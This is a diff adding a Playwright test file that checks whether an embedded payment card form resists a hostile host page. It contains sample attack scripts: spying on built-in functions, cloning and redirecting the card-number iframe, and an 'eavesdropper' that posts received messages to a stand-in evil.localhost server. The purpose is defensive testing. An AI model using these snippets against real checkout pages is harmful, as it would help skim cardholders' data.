@@ -1,0 +1,152 @@
+import type { Page } from '@playwright/test';
+import words from '#locales/en' with { type: 'json' };
+import { cardForm } from '../../pages/card-form.ts';
+import { reportedSabotage, spyOnBuiltIns, survivableSabotage } from '../../pages/shadowing.ts';
+import { expect, test, type Sandbox } from '../../support/fixtures.ts';
+import { countPayments } from '../../support/ledger.ts';
+
+const number = '4928716350849271';
+const cvv = '739';
+
+/** Five consecutive digits each. The first six and the last four may be known: the payment API returns them. */
+const secrets = Array.from({ length: 9 }, (_, start) => number.slice(start + 2, start + 7));
+
+const openWith = async (page: Page, sandbox: Sandbox, script = ''): Promise<string> => {
+  const checkoutId = await sandbox.createCheckout();
+  const { head = '', body = '' } = sandbox.snippet({ checkoutId });
+  await sandbox.merchantPage(page, { head: `<script>${script}</script>${head}`, body });
+  return checkoutId;
+};
+
+const recordErrors = (page: Page): string[] => {
+  const errors: string[] = [];
+  page.on('pageerror', ({ message }) => void errors.push(message));
+  return errors;
+};
+
+test.describe('A page that replaces built-in functions', () => {
+  test('sees no digits in any call, and the card is paid', async ({ page, sandbox }) => {
+    const checkoutId = await openWith(page, sandbox, spyOnBuiltIns(secrets));
+    const form = cardForm(page);
+    await form.type({ number, cvv });
+    expect(await page.evaluate('callCount')).toBeGreaterThan(100);
+    expect(await page.evaluate('findings')).toEqual([]);
+    await page.evaluate(`addEventListener('pagehide', () => {
+        sessionStorage.setItem('findings', 'findings: ' + findings.join()); })`);
+    await form.pay();
+    await sandbox.result(page);
+    expect(await page.evaluate(`sessionStorage.getItem('findings')`)).toBe('findings: ');
+    expect(await countPayments(sandbox, checkoutId)).toBe(1);
+  });
+
+  test('shows a usable form when they throw or return nonsense', async ({ page, sandbox }) => {
+    const errors = recordErrors(page);
+    for (const [what, { script, error }] of Object.entries(survivableSabotage)) {
+      await test.step(what, async () => {
+        errors.length = 0;
+        await openWith(page, sandbox, script);
+        await cardForm(page).number.fill(number);
+        expect(page.url()).toBe(`${sandbox.site.origin}/checkout`);
+        await expect.poll(() => [...new Set(errors)]).toEqual(error === undefined ? [] : [error]);
+      });
+    }
+  });
+
+  test('shows an error message when the form cannot work with them', async ({ page, sandbox }) => {
+    const errors = recordErrors(page);
+    await page.clock.install();
+    for (const [what, { script, message, error }] of Object.entries(reportedSabotage)) {
+      await test.step(what, async () => {
+        errors.length = 0;
+        await openWith(page, sandbox, script);
+        await page.clock.runFor(100);
+        await expect(page.locator('.wpwl-container-card iframe').first()).toBeAttached();
+        await page.clock.runFor(9_000);
+        await expect(page.getByRole('alert')).toHaveText(words[message]);
+        expect(page.url()).toBe(`${sandbox.site.origin}/checkout`);
+        await expect.poll(() => [...new Set(errors)]).toEqual(error === undefined ? [] : [error]);
+      });
+    }
+  });
+});
+
+/** A document of another site that sends all messages it receives to its server. */
+const eavesdropper = `<script>
+  addEventListener('message', ({ data }) => {
+    fetch('/received', { method: 'POST', body: JSON.stringify(data) });
+  });</script>`;
+
+test.describe('A page that changes the iframe of the number', () => {
+  test('gets an empty field and no digits when it copies, moves or redirects the iframe', async ({
+    page,
+    sandbox,
+  }) => {
+    const evil = sandbox.siteAt('evil.localhost');
+    const evilUrl = evil.serve({ path: '/frame', head: eavesdropper });
+    await page.clock.install();
+    const checkoutId = await openWith(page, sandbox);
+    const form = cardForm(page);
+
+    await test.step('copy', async () => {
+      await form.fill({ number, cvv });
+      await page.evaluate(`new Promise((resolve) => {
+        const own = document.querySelector('iframe[name="card.number"]');
+        const copy = own.cloneNode(true);
+        copy.onload = resolve;
+        document.body.append(copy);
+      })`);
+      await expect(page.locator('iframe').last().contentFrame().locator('input')).toHaveCount(0);
+      await page.evaluate(`document.body.lastElementChild.remove()`);
+    });
+    await test.step('move', async () => {
+      await page.evaluate(`(() => {
+        const own = document.querySelector('iframe[name="card.number"]');
+        own.parentNode.append(own);
+      })()`);
+      await expect(form.number).toHaveValue('');
+      await form.number.fill(number);
+    });
+    await test.step('redirect', async () => {
+      await page.evaluate(`new Promise((resolve) => {
+        const own = document.querySelector('iframe[name="card.number"]');
+        window.ownSource = own.src;
+        own.addEventListener('load', resolve, { once: true });
+        own.src = ${JSON.stringify(evilUrl)};
+      })`);
+      await form.pay();
+      await page.clock.runFor(8_100);
+      await expect(form.message).not.toHaveText('');
+      expect(evil.requests().filter((request) => request.includes('/received'))).toEqual([]);
+      await page.evaluate(`document.querySelector('iframe[name="card.number"]').src = ownSource`);
+      await expect(form.number).toHaveValue('');
+    });
+    await form.number.fill(number);
+    await form.pay();
+    await sandbox.result(page);
+    expect(evil.received().join()).not.toContain(number.slice(2, 8));
+    expect(await countPayments(sandbox, checkoutId)).toBe(1);
+  });
+
+  test('cannot cause a second payment while the first is sent', async ({ page, sandbox }) => {
+    const changes = [`own.remove()`, `own.src = 'about:blank'`, `document.body.append(own)`];
+    for (const change of changes) {
+      await test.step(change, async () => {
+        const checkoutId = await openWith(page, sandbox);
+        const form = cardForm(page);
+        await form.fill({ number, cvv });
+        const path = `/v1/checkouts/${checkoutId}/payment`;
+        await sandbox.fault({ method: 'POST', path, kind: 'delay', delayMs: 600, times: 1 });
+        const sent = page.waitForRequest((request) => request.url().endsWith('/payment'));
+        await form.pay();
+        await sent;
+        await page.evaluate(
+          `{ const own = document.querySelector('iframe[name="card.number"]'); ${change}; }`,
+        );
+        const resultPage = page.getByRole('heading', { name: 'Thank you' });
+        const message = form.message.filter({ hasText: /./ });
+        await expect(resultPage.or(message)).toBeVisible();
+        expect(await countPayments(sandbox, checkoutId)).toBeLessThanOrEqual(1);
+      });
+    }
+  });
+});
